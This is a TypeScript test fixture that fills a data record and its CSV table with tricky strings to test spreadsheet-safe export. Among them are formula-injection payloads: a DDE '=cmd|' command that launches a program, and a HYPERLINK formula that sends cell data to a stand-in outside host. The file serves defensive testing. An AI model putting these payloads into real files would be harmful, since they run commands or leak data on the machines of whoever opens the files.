/** A record full of text that spreadsheets run, that readers trip over or that writers lose. */
import { join } from 'node:path';
import { csvFormatRows } from 'd3-dsv';
import type { Publication } from '#lib/publish/published-file.ts';
import { readPublication } from './read-publication.ts';

/** Such texts; the check of a record refuses some of them, so a download meets those only where a reader made them. */
export const HOSTILE: readonly string[] = [
	'=1+1',
	'+',
	'-5 apples',
	'-5',
	'@x',
	'\ttabbed',
	'＝SUM(A1)',
	'＋1',
	'－1',
	'＠x',
	'=cmd|"/c calc"!A1',
	'=HYPERLINK("https://elsewhere.example/?"&A1,"here")',
	"'already quoted",
	'"quoted", with a comma',
	'one line\nand another',
	'=one line\nand another',
	'old\rbreaks',
	'both\r\nbreaks',
	' blanks kept ',
	'\u200fمرفأ\u200f 12',
	'\u2067عدد\u2069 (5)',
	'⛴️ 👩‍👩‍👧 𠮷',
	'13万',
	'約10萬以上 / 约10万',
	'１２万',
	'_x000D_ is text',
	'<b>&amp;</b>',
	']]>',
	'0012',
	'1-2',
	'2024-01',
	'1e5',
	'NaN',
	'null',
	'true',
	'TRUE',
	'#N/A',
	'a\\nb',
	'a\\',
	'\u2028line separator',
	'ends with a quote"'
];

/** The record `good`, with a figure and a limit for each such text, wherever a text of the record can stand. */
export function hostilePublication(): Publication {
	const publication = readPublication(join(import.meta.dirname, 'good'), 'https://ferries.example');
	const { model } = publication;
	const [figure] = model.figures.filter(({ chain }) => chain.length > 1);
	if (!figure) throw new Error('the record good has no figure with a chain');
	const figures = HOSTILE.map((text, index): typeof figure => ({
		...figure,
		id: idOf(index),
		label: text,
		asStated: text,
		caveat: text,
		doubts: [],
		measure: { ...figure.measure, label: text },
		unit: { ...figure.unit, label: text },
		speaker: figure.speaker && { ...figure.speaker, name: text },
		chain: figure.chain.map((hop) => ({ ...hop, party: { ...hop.party, name: text } })),
		citations: figure.citations.map((citation) => ({
			...citation,
			source: { ...citation.source, title: text, url: text }
		})),
		grades: { ...figure.grades, credibility: { ...figure.grades.credibility, reason: text } }
	}));
	const limits = HOSTILE.map((text, index) => [idOf(index), String(index), text, 'en']);
	const tables = new Map(publication.tables).set(
		'limits',
		`${csvFormatRows([['id', 'position', 'limit', 'lang'], ...limits])}\n`
	);
	return { ...publication, tables, model: { ...model, figures } };
}

function idOf(index: number): string {
	return `hostile-${String(index).padStart(2, '0')}`;
}
